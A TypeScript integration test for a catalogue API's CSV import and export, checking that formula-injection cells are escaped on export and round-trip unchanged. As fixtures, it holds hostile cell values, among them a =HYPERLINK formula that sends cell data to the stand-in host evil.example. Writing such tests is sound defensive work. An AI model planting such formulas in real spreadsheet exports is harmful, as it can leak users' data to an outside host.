import { readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ApiHarness } from './support/api-harness.js';

const repoRoot = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const shippedSeed = readFileSync(resolve(repoRoot, 'libs/catalogue/src/seed/interfaces.csv'), 'utf8');

let api: ApiHarness;
let coordinator: string;

beforeAll(async () => {
  api = await ApiHarness.start();
  coordinator = await api.coordinator();
});

afterAll(async () => {
  await api.stop();
});

const exportCsv = async () =>
  (await api.ok<{ interfaceMatrixCsv: string }>(coordinator, '{ interfaceMatrixCsv }')).interfaceMatrixCsv;
const importCsv = (csv: string) =>
  api.ok<{ importInterfaceMatrix: { interfacesCreated: number; interfacesUpdated: number } }>(
    coordinator,
    'mutation($csv: String!) { importInterfaceMatrix(csv: $csv) { interfacesCreated interfacesUpdated } }',
    { csv },
  );

describe('CSV exports and formula injection (OWASP)', () => {
  it('writes no cell a spreadsheet would run as a formula; the stored text and the seed stay as they are', async () => {
    expect(await exportCsv()).toBe(shippedSeed);
    const hostile = shippedSeed.replace(
      'SF1490,Ydelsesindekset,RA-STS,x,x,x,\n',
      'SF1490,Ydelsesindekset,RA-STS,x,x,x,\n' +
        'SF1501,"=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",+Leverandør,,,,x\n' +
        'SF1502,-1+2,@Supplier,,,,x\n' +
        'SF1503,"\tTabbed title",ATP,,,,x\n',
    );
    await importCsv(hostile);

    const stored = await api.ok<{ interfaces: { key: string; title: string; supplier: { name: string } }[] }>(
      coordinator,
      '{ interfaces { key title supplier { name } } }',
    );
    const byKey = new Map(stored.interfaces.map((row) => [row.key, row]));
    expect(byKey.get('SF1501')?.title).toBe('=HYPERLINK("http://evil.example/?"&A1,"Klik")');
    expect(byKey.get('SF1501')?.supplier.name).toBe('+Leverandør');

    const exported = await exportCsv();
    expect(exported).toContain(
      `SF1501,"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",'+Leverandør,,,,x\n`,
    );
    expect(exported).toContain("SF1502,'-1+2,'@Supplier,,,,x\n");
    expect(exported).toContain("SF1503,'\tTabbed title,ATP,,,,x\n");
    // Cell by cell (the file has no quoted line breaks): none starts with = + - @ or a tab.
    const cells = exported
      .trimEnd()
      .split('\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((cell) => cell.replace(/,$/, '').replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    // The export imports back as itself, and the seed round-trips byte for byte again.
    await importCsv(exported);
    expect(await exportCsv()).toBe(exported);
    expect(
      (await api.ok<{ interface: { title: string } }>(coordinator, '{ interface(key: "SF1501") { title } }'))
        .interface.title,
    ).toBe('=HYPERLINK("http://evil.example/?"&A1,"Klik")');
  });
});
